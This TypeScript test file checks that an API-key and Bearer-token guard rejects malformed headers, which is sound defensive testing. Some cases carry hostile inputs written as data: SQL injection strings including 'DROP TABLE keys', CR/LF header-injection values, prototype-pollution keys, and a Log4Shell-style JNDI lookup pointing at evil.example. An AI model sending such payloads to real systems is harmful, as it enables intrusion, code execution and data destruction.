import { runBadInputs, type Cases, type Probe } from './run-bad-inputs.js';
import { asBytes } from './raw-http.js';

const target = '/orders';

/** Sends each of some header lines, alone, to the guarded route. */
const eachLine =
  (linesOf: (probe: Probe) => readonly string[]): Cases =>
  async (probe) => {
    for (const line of linesOf(probe)) await probe.send({ target, lines: [line] });
  };

/** Sends a text in place of the key, in both headers. */
const asKey =
  (textsOf: (token: string) => readonly string[]): Cases =>
  async (probe) => {
    for (const text of textsOf(probe.server.token)) {
      await probe.send({ target, lines: [`X-Api-Key: ${text}`] });
      await probe.send({ target, lines: [`Authorization: Bearer ${text}`] });
    }
  };

const middle = (token: string, insertion: string): string =>
  `${token.slice(0, 30)}${insertion}${token.slice(30)}`;

const fillers = (count: number): string[] => Array.from({ length: count }, () => 'a:');

const cases: Record<string, Cases> = {
  H1: async ({ send }) => {
    const answer = await send({ target });
    expect(answer.headers['www-authenticate']).toBe('Bearer realm="acme"');
  },
  H2: eachLine(() => ['Authorization:', 'Authorization: ', 'X-Api-Key:', 'X-Api-Key:  ']),
  H3: eachLine(() => ['Authorization: Bearer', 'Authorization: bearer', 'Authorization: Bearer ']),
  H4: eachLine(({ server }) => [`Authorization: Bearer  ${server.token}`]),
  H5: eachLine(({ server }) => [
    `Authorization: Bearer\t  ${server.token}`,
    `Authorization: Bearer \t ${server.token}`,
  ]),
  H6: eachLine(({ server }) => [`Authorization: bearer ${server.token}`]),
  H7: eachLine(({ server }) => [`Authorization: BEARER ${server.token}`]),
  H8: eachLine(({ server }) => [
    `Authorization: Basic ${Buffer.from(`${server.token}:`).toString('base64')}`,
    `Authorization: Basic ${Buffer.from(`:${server.token}`).toString('base64')}`,
  ]),
  H9: eachLine(({ server }) => [
    'Authorization: Basic !!!not base64!!!',
    `Authorization: Basic ${Buffer.from('nocolon').toString('base64')}`,
    `Authorization: Basic ${Buffer.from(':').toString('base64')}`,
    `Authorization: Basic ${server.token}`,
    'Authorization: Basic',
  ]),
  H10: eachLine(({ server }) => [
    `Authorization: Digest username="${server.token}"`,
    `Authorization: Negotiate ${server.token}`,
    `Authorization: Token ${server.token}`,
    `Authorization: ${server.token}`,
    `Authorization: BearerX ${server.token}`,
    `Authorization: Bea rer ${server.token}`,
  ]),
  H11: eachLine(({ server }) => [
    `Authorization: Bearer ${server.token}, Bearer ${server.testToken}`,
    `Authorization: Bearer ${server.token},Bearer ${server.token}`,
    `Authorization: Bearer ${server.token},`,
  ]),
  H12: async ({ send, server }) => {
    const valid = `Authorization: Bearer ${server.token}`;
    await send({ target, lines: [valid, valid] });
    await send({ target, lines: [valid, 'Authorization: Basic abc'] });
    await send({ target, lines: ['Authorization: Bearer x', valid] });
    await send({ target, lines: ['Authorization:', valid] });
  },
  H13: async ({ send, server }) => {
    await send({ target, lines: [`X-Api-Key: ${server.token}`, 'X-Api-Key: x'] });
    await send({ target, lines: [`X-Api-Key: ${server.token}`, 'x-api-key:'] });
  },
  H14: async ({ send, server }) => {
    await send({ target, lines: ['X-Api-Key: x', `X-API-KEY: ${server.token}`] });
  },
  H15: async ({ send, server }) => {
    await send({
      target,
      lines: [`X-Api-Key: ${server.token}`, `Authorization: Bearer ${server.testToken}`],
    });
    await send({ target, lines: ['Authorization: Bearer x', `X-Api-Key: ${server.token}`] });
  },
  H16: async ({ send, server }) => {
    await send({ target, lines: [`X-Api-Key: ${server.token}`, `Authorization: Bearer ${server.token}`] });
  },
  H17: eachLine(({ server }) => [
    `X_Api_Key: ${server.token}`,
    `x_api_key: ${server.token}`,
    `X-Api_Key: ${server.token}`,
    `Api-Key: ${server.token}`,
    `X-ApiKey: ${server.token}`,
  ]),
  H18: eachLine(({ server }) => [`X-API-KEY: ${server.token}`, `x-api-key: ${server.token}`]),
  H19: eachLine(({ server }) => [`X-Api-Key : ${server.token}`, `Authorization : Bearer ${server.token}`]),
  H20: asKey((token) => [`${token}\0`, `${token}\0x`]),
  H21: asKey((token) => [middle(token, '\r'), `${token}\r`]),
  H22: eachLine(({ server }) => [
    `X-Filler: a\nX-Api-Key: ${server.token}`,
    `X-Filler: a\n\nX-Api-Key: ${server.token}`,
  ]),
  H23: eachLine(({ server }) => [
    `X-Filler: a\r\n X-Api-Key: ${server.token}`,
    `X-Api-Key:\r\n ${server.token}`,
    `X-Api-Key: ${server.token}\r\n\t`,
  ]),
  H24: asKey((token) => [middle(token, '\xff'), `\xff${token}`, `${token}\xff`, '\xff\xfe\xfd']),
  H25: asKey((token) => [asBytes(middle(token, '😀')), asBytes('🔑')]),
  H26: asKey((token) => [asBytes(token.replace('a', 'а')), asBytes(token.replace('e', 'е'))]),
  H27: asKey((token) => [asBytes(`${token.slice(0, -1)}７`), asBytes(token.replace('live', 'ｌｉｖｅ'))]),
  H28: asKey((token) => [
    asBytes(middle(token, '\u200b')),
    asBytes(`${token}\u200b`),
    asBytes(`\ufeff${token}`),
  ]),
  H29: asKey((token) => [`"${token}"`, `'${token}'`, `<${token}>`, `\`${token}\``]),
  H30: asKey((token) => [
    token.replace('_', '%5F'),
    [...token].map((character) => `%${character.charCodeAt(0).toString(16)}`).join(''),
  ]),
  H31: asKey((token) => [Buffer.from(token).toString('base64'), Buffer.from(token).toString('hex')]),
  H32: async ({ send, server }) => {
    await send({ target, lines: [`X-Api-Key: ${server.testToken}`] }, { storeReads: 0 });
    // Its own head exchanged, and with it the checksum wrong.
    const disguised = server.testToken.replace('acme_test_', 'acme_live_');
    await send({ target, lines: [`X-Api-Key: ${disguised}`] }, { storeReads: 0 });
  },
  H33: asKey((token) => [
    `${token.slice(0, -1)}${token.endsWith('0') ? '1' : '0'}`,
    `${token.slice(0, -6)}000000`,
    token.toUpperCase(),
    token.toLowerCase(),
    `acme_live_${'0'.repeat(65)}`,
  ]),
  H34: asKey((token) => [token.slice(0, -1), token.slice(0, -6), token.slice(1), 'acme_live_', 'acme_']),
  H35: asKey((token) => [`${token}0`, `0${token}`, `${token}${token}`, `${token}.${token}`, `${token};`]),
  H36: asKey(() => [`acme_live_${'a'.repeat(15_000)}`, 'x'.repeat(15_000)]),
  H37: async ({ send }) => {
    await send({ target, lines: [`X-Api-Key: ${'x'.repeat(20_000)}`] });
    await send({ target, lines: [`Cookie: ${'x'.repeat(20_000)}`] });
  },
  H38: async ({ send, server }) => {
    const lines = [`X-Api-Key: ${server.boundToken}`, ...fillers(1000), 'X-Forwarded-For: 203.0.113.9'];
    await send({ target, lines }, { setup: 'behind one proxy' });
    await send({ target, lines });
  },
  H39: async ({ send, server }) => {
    await send({ target, lines: [...fillers(1100), `X-Api-Key: ${server.token}`] });
  },
  H40: asKey(() => [
    "' OR 1=1--",
    "acme_live_' OR '1'='1",
    "acme_live_0000000000000000'; DROP TABLE keys;--",
    '1) UNION SELECT * FROM keys--',
  ]),
  H41: asKey(() => ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'acme_live___proto__']),
  H42: async ({ send }) => {
    const jndi = '${jndi:ldap://evil.example/x}';
    const ansi = '\x1b[31mred\x1b[0m';
    for (const text of [jndi, ansi, `${jndi}${ansi}`]) {
      await send({ target, lines: [`X-Api-Key: ${text}`] });
      await send({ target, lines: [`Authorization: Bearer ${text}`] });
      await send({ target, lines: [`User-Agent: ${text}`] });
      await send({ target: '/api-keys/keys', lines: [`User-Agent: ${text}`] });
    }
  },
  H43: async ({ send, server }) => {
    await send({ target, lines: ['Connection: close, X-Api-Key', `X-Api-Key: ${server.token}`] });
    await send({
      target,
      lines: ['Connection: close, authorization', `Authorization: Bearer ${server.token}`],
    });
  },
  H44: eachLine(() => [
    'User-Agent: GoogleHC/1.0',
    'User-Agent: kube-probe/1.30',
    'User-Agent: ELB-HealthChecker/2.0',
    'User-Agent: Amazon-Route53-Health-Check-Service',
  ]),
};

describe('bad headers', () => {
  runBadInputs('H', cases);
});
